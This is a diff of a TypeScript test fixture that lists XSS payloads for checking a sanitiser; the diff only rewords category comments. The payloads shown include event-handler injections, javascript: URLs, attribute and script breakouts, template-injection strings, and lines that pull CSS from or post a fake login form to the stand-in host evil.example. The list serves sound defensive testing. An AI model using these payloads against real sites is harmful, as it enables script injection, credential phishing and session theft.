@@ -1,11 +1,11 @@
-/** What runs when a text is taken for anything but text. */
+/** Runs when a text is interpreted as code. */
 const RUN = "window.__xss=1";
 const BIDI = "\u202e\u2066\u200f";
 const ZERO_WIDTH = "\u200b\u200d\u2060\ufeff";
 
-/** Sixty texts that try to be more than text (docs/threats.md C7), by what they try. */
+/** Sixty texts that try to be interpreted as markup or code (docs/threats.md C7), by method. */
 export const payloads: string[] = [
-	// Elements with a handler of their own
+	// Elements with an event handler
 	`<img src=x onerror=${RUN}>`,
 	`<img src="x" onerror="${RUN}">`,
 	`<IMG SRC=x OnErRoR=${RUN}>`,
@@ -35,7 +35,7 @@ export const payloads: string[] = [
 	`<link rel=stylesheet href="https://evil.example/x.css">`,
 	`<style>@import "https://evil.example/x.css"; *{display:none}</style>`,
 	`<form action="https://evil.example/"><button>Log in</button></form>`,
-	// Addresses
+	// URLs
 	`javascript:${RUN}`,
 	`JaVaScRiPt:${RUN}//https://genga.test/`,
 	`java\tscript:${RUN}`,
@@ -48,13 +48,13 @@ export const payloads: string[] = [
 	`https://evil.example/" onerror="${RUN}" x="`,
 	`/media/../x" onerror="${RUN}`,
 	`url("javascript:${RUN}")`,
-	// Out of an attribute
+	// Breaking out of an attribute
 	`" autofocus onfocus="${RUN}`,
 	`' onmouseover='${RUN}' x='`,
 	`"><svg/onload=${RUN}>`,
 	`'><img src=x onerror=${RUN}>`,
 	`\` onerror=${RUN}`,
-	// Out of a script, of its data, of a comment, of a text area or a title
+	// Breaking out of a script, its data, a comment, a text area or a title
 	`</script><script>${RUN}</script>`,
 	`</SCRIPT ><img src=x onerror=${RUN}>`,
 	`<!--<script>${RUN}//-->`,
@@ -65,7 +65,7 @@ export const payloads: string[] = [
 	`\\"}];${RUN};//`,
 	`\u2028${RUN}\u2029//`,
 	`]]><script>${RUN}</script>`,
-	// Templates, half tags, and what only looks wrong
+	// Templates, incomplete tags, and texts that only look dangerous
 	`{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
 	`<img src=x onerror=${RUN}`,
 	`&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e`,
